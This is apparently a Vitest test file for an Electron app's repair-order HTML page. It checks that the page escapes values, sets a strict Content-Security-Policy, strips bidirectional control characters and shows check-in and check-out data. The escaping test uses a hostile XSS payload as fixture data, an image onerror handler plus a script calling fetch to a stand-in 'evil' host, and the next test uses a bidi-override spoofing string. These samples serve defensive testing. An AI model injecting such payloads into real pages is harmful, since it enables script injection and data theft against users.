// The record's page: every value escaped, the page allowed nothing but its inline style, unknown
// values shown as unknown with their reason, the snapshots side by side.
import { describe, expect, it } from 'vitest';
import { escapeHtml, jobHtml } from '../../../electron/main/jobs/job-html';
import { jobFixture, recordFixture } from '../../support/job-fixture';

describe('the repair-order page', () => {
  it('escapes every value typed or read, so a hostile one prints as text', () => {
    const hostile = '<img src=x onerror=alert(1)><script>fetch("http://evil")</script>';
    const record = recordFixture(
      1,
      jobFixture({
        repairOrder: `RO "1" ${hostile}`,
        technician: `Dana ${hostile}`,
        vehicle: hostile,
        complaint: hostile,
        notes: [{ time: '2026-11-25T10:02:00.000Z', technician: 'Dana', text: hostile }],
      }),
    );
    record.actions[0]!.entry.params = { plate: hostile };
    const html = jobHtml(record);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;fetch(&quot;http://evil&quot;)&lt;/script&gt;');
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src 'none'; script-src 'none'">`,
    );
    expect(escapeHtml(`'&"<>`)).toBe('&#39;&amp;&quot;&lt;&gt;');
  });

  it('prints no bidirectional control, so no value shows its neighbours reordered', () => {
    const flipped = 'Dana \u202Eevil\u202C \u2067RO-9\u2069';
    const record = recordFixture(1, jobFixture({ technician: flipped, complaint: flipped }));
    record.actions[0]!.entry.params = { plate: flipped };
    const html = jobHtml(record);
    expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(html).toContain('Dana evil RO-9');
  });

  it('puts check-in and check-out side by side, with times and unknowns said as such', () => {
    const html = jobHtml(recordFixture());
    const row =
      /<tr><th scope="row">charge limit<\/th><td>([^<]*)<small>[^<]*<\/small><\/td><td>([^<]*)</.exec(html);
    expect(row?.slice(1)).toEqual(['80 % ', '90 % ']);
    expect(html).toContain('unknown (not read: the service did not answer)');
    expect(html).toContain('charge limit 80 → 90 %, confirmed 10:01:00 UTC');
    expect(html).toContain('Reyes &amp; Sons &lt;Motors&gt;');
    expect(html).toContain('2026-11-25 10:00:00 UTC – 2026-11-25 11:00:00 UTC');
    expect(html).toContain(recordFixture().digest.value);
  });

  it('says when a job is not checked out yet rather than showing empty values', () => {
    const html = jobHtml(recordFixture(0, jobFixture({ status: 'open', checkOut: null })));
    expect(html).toContain('not checked out yet');
    expect(html).toContain('No audited actions.');
  });
});
